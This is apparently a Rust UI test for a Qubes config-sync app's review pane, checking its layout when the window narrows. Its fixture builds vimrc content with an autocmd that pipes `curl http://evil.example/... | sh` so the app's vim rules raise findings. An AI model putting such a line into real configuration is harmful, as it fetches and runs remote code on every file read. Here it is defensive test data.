//! Issue 14 (helper pane14): the review pane's layout, through the real backend.
//! A proposal with several findings is open while the window narrows to 600 and then
//! 360 px: the sidebar folds, every control of the pane (view toggles, mark all, the
//! per-change toggles, Reject, Accept, the finding rows' buttons) and of the header is
//! whole and inside the window, the findings stay on screen above the diff, and the
//! handle between them moves — but never so far that either side disappears — and
//! keeps its place for the next proposal. Wide again, the control rows are one line.

use adw::prelude::*;
use qubes_config_sync::widgets::QcsReviewPane;
use qubes_config_sync::window::QcsWindow;

use crate::harness::{backend, horizontal_extent, pending_ids, screenshot, settle, wait_until};

/// A new file of `lines` lines, every third one something the vim rules flag.
fn risky_vimrc(lines: usize) -> String {
    (0..lines)
        .map(|i| match i % 3 {
            0 => format!("autocmd BufRead * silent !sh -c 'curl http://evil.example/{i} | sh'\n"),
            _ => format!("\" line {i}\n"),
        })
        .collect()
}

/// Spool one proposal of a new file, ingest it and wait until the app lists it.
fn propose(
    window: &QcsWindow,
    address: &str,
    spool: &std::path::Path,
    path: &str,
    content: &str,
) -> i64 {
    let before = pending_ids(address);
    qubes_config_sync::demo::spool_proposal(
        spool,
        "personal",
        "vim",
        path,
        content.as_bytes(),
        &"a long note from the qube that has to wrap ".repeat(8),
    )
    .expect("spool a proposal");
    backend(address, async |p| {
        p.ingest_spool().await.expect("IngestSpool")
    });
    let id = pending_ids(address)
        .into_iter()
        .find(|id| !before.contains(id))
        .unwrap_or_else(|| panic!("the proposal of {path:?} was not taken in"));
    wait_until("the new proposal in the sidebar", || {
        window.pending_proposals().iter().any(|p| p.id == id)
    });
    id
}

fn open(window: &QcsWindow, review: &QcsReviewPane, id: i64) {
    window.open_proposal(id);
    wait_until("the proposal laid out", || {
        review.proposal_id() == Some(id) && review.diff_view().laid_out()
    });
    settle();
}

/// Resize the window and wait until it has that width (or gives up at its minimum).
fn resize(window: &QcsWindow, width: i32, height: i32) {
    window.set_default_size(width, height);
    for _ in 0..20 {
        settle();
        if window.width() <= width {
            break;
        }
    }
}

/// Where a widget lies in the window: (top, bottom) edges.
fn vertical_extent(widget: &impl IsA<gtk::Widget>, window: &QcsWindow) -> (f32, f32) {
    let bounds = widget
        .as_ref()
        .compute_bounds(window)
        .expect("the widget is inside the window");
    (bounds.y(), bounds.y() + bounds.height())
}

/// The widest descendants of `root` by smallest width (for a failure message): type,
/// CSS name and smallest width, widest first.
fn widest(root: &gtk::Widget) -> String {
    fn walk(widget: &gtk::Widget, depth: usize, out: &mut Vec<(i32, String)>) {
        let mut child = widget.first_child();
        while let Some(c) = child {
            if c.should_layout() {
                let (min, _, _, _) = c.measure(gtk::Orientation::Horizontal, -1);
                out.push((
                    min,
                    format!("{}{}:{min}", "·".repeat(depth), c.type_().name()),
                ));
                if depth < 12 {
                    walk(&c, depth + 1, out);
                }
            }
            child = c.next_sibling();
        }
    }
    let mut all = Vec::new();
    walk(root, 0, &mut all);
    all.sort_by_key(|entry| std::cmp::Reverse(entry.0));
    all.into_iter()
        .take(25)
        .map(|(_, s)| s)
        .collect::<Vec<_>>()
        .join(", ")
}

/// Every control `what` is mapped, whole (not cut below its smallest width) and
/// inside the window.
fn assert_inside(window: &QcsWindow, width: i32, what: &str, control: &gtk::Widget) {
    assert!(control.is_mapped(), "{width} px: {what} is not on screen");
    let (left, right) = horizontal_extent(control, window);
    let (top, bottom) = vertical_extent(control, window);
    let (min, _, _, _) = control.measure(gtk::Orientation::Horizontal, -1);
    assert!(
        left >= -0.5 && right <= window.width() as f32 + 0.5,
        "{width} px: {what} lies at {left}..{right}, the window is {} wide",
        window.width()
    );
    assert!(
        top >= -0.5 && bottom <= window.height() as f32 + 0.5,
        "{width} px: {what} lies at {top}..{bottom} (height), the window is {} high",
        window.height()
    );
    assert!(
        (right - left) + 0.5 >= min as f32,
        "{width} px: {what} is cut to {} of {min} px",
        right - left
    );
}

/// The step: see the module's doc.
pub fn review_pane_narrow(
    window: &QcsWindow,
    review: &QcsReviewPane,
    address: &str,
    spool: &std::path::Path,
) {
    backend(address, async |p| {
        p.allow_new_paths("vim", &[".vim/**"], true)
            .await
            .expect("AllowNewPaths")
    });
    let long_name = format!(".vim/plugin/{}.vim", "a-rather-long-plugin-name-".repeat(6));
    let first = propose(window, address, spool, &long_name, &risky_vimrc(18));
    let second = propose(
        window,
        address,
        spool,
        ".vim/plugin/second.vim",
        &risky_vimrc(9),
    );
    resize(window, 1360, 860);
    open(window, review, first);
    assert!(
        review.finding_rows().len() >= 3,
        "{} findings: too few to fill the findings list",
        review.finding_rows().len()
    );
    // Wide: each control row is one line.
    for row in review.wrapping_rows() {
        assert_eq!(row.line_count(), 1, "1360 px: a control row wrapped");
    }

    for width in [600, 360] {
        resize(window, width, 700);
        let (minimum, _, _, _) = window.measure(gtk::Orientation::Horizontal, -1);
        assert!(
            window.width() <= width,
            "the window with a review open cannot get {width} px narrow: it is {} (smallest {minimum}; review pane {}; widest parts: {})",
            window.width(),
            review.measure(gtk::Orientation::Horizontal, -1).0,
            widest(window.upcast_ref()),
        );
        if width == 360 {
            assert!(window.is_folded(), "360 px folds the sidebar");
        }
        assert!(window.shows_content(), "{width} px: the review is on show");
        screenshot(window, &format!("review-pane-{width}.png"));

        // Every control of the pane and of the header: whole and inside the window.
        for control in review.controls() {
            let what = control
                .downcast_ref::<gtk::Button>()
                .and_then(|b| b.label())
                .map_or_else(|| control.type_().name().to_owned(), |l| l.to_string());
            assert_inside(window, width, &what, &control);
        }
        for button in window.header_buttons() {
            if button.is_mapped() {
                assert_inside(window, width, "a header button", &button);
            }
        }
        // The per-change toggles of the hunks on screen.
        let hunks = review.diff_view().bound_hunks();
        assert!(!hunks.is_empty(), "{width} px: no hunk header on screen");
        for hunk in hunks {
            let (accept, reject) = review
                .diff_view()
                .hunk_toggles(hunk)
                .expect("a bound header has toggles");
            assert_inside(window, width, "a hunk's Accept", accept.upcast_ref());
            assert_inside(window, width, "a hunk's Reject", reject.upcast_ref());
        }
        // The findings are on screen, the first one's buttons whole.
        let scroller = review.findings_scroller();
        assert!(
            scroller.height() >= 60,
            "{width} px: the findings are squeezed to {} px",
            scroller.height()
        );
        let rows = review.finding_rows();
        let (_, first_row) = rows.first().expect("a finding row");
        let (left, right) = horizontal_extent(first_row, window);
        assert!(
            left >= -0.5 && right <= window.width() as f32 + 0.5,
            "{width} px: the first finding lies at {left}..{right}"
        );
        // Its message is a readable block, not a column a few letters wide.
        assert!(
            first_row.height() <= 320,
            "{width} px: the first finding is {} px high",
            first_row.height()
        );
        let (top, _) = vertical_extent(first_row, window);
        let (scroller_top, scroller_bottom) = vertical_extent(&scroller, window);
        assert!(
            top >= scroller_top - 0.5 && top < scroller_bottom,
            "{width} px: the first finding starts at {top}, the list shows {scroller_top}..{scroller_bottom}"
        );
        // The long texts wrap or are cut to fit: no label is wider than the window.
        let (note_expander, note) = review.note();
        assert!(note_expander.is_visible());
        note_expander.set_expanded(true);
        settle();
        for (what, label) in [
            ("the note", note.upcast::<gtk::Widget>()),
            ("the title", review.title_label().upcast()),
            ("the subtitle", review.subtitle_label().upcast()),
        ] {
            let (left, right) = horizontal_extent(&label, window);
            assert!(
                left >= -0.5 && right <= window.width() as f32 + 0.5,
                "{width} px: {what} lies at {left}..{right}"
            );
        }
        assert!(
            review.diff_view().height() >= 100,
            "{width} px: no room for the diff"
        );
    }
    // At 360 px the control rows had to wrap (otherwise the check proves nothing).
    assert!(
        review.wrapping_rows().iter().any(|r| r.line_count() > 1),
        "360 px: no control row wrapped"
    );

    // The handle moves (at 360 px, in a taller window so there is room both ways):
    // the findings change by what it moved…
    resize(window, 360, 960);
    let paned = review.findings_paned();
    let scroller = review.findings_scroller();
    let position = paned.position();
    assert!(
        paned.max_position() - position >= 80,
        "no room to move the handle down: {position} of {}",
        paned.max_position()
    );
    let before = scroller.height();
    paned.set_position(position + 80);
    settle();
    let grown = scroller.height();
    assert!(
        (grown - before - 80).abs() <= 2,
        "the handle moved 80 px, the findings went from {before} to {grown} px"
    );
    // …but neither side can be dragged to nothing.
    paned.set_position(0);
    settle();
    assert!(
        scroller.height() >= 60,
        "dragged to the top: the findings are {} px",
        scroller.height()
    );
    assert!(
        review.finding_rows()[0].1.is_mapped(),
        "dragged to the top: the first finding is not on screen"
    );
    paned.set_position(i32::MAX / 2);
    settle();
    assert!(
        review.diff_view().height() >= 100,
        "dragged to the bottom: the diff is {} px",
        review.diff_view().height()
    );
    assert_inside(
        window,
        360,
        "Accept, with the handle at the bottom",
        review.accept_button().upcast_ref(),
    );
    // The height chosen is kept for the next proposal.
    paned.set_position(position + 40);
    settle();
    let chosen = paned.position();
    open(window, review, second);
    assert_eq!(
        paned.position(),
        chosen,
        "the next proposal moved the handle"
    );
    assert!(
        (scroller.height() - (grown - 40)).abs() <= 2,
        "the findings went from {} to {} px",
        grown - 40,
        scroller.height()
    );

    for id in [first, second] {
        backend(address, async |p| {
            p.reject_proposal(id, "test").await.expect("reject")
        });
    }
    resize(window, 1360, 860);
    assert!(!window.is_folded(), "{} px wide", window.width());
}
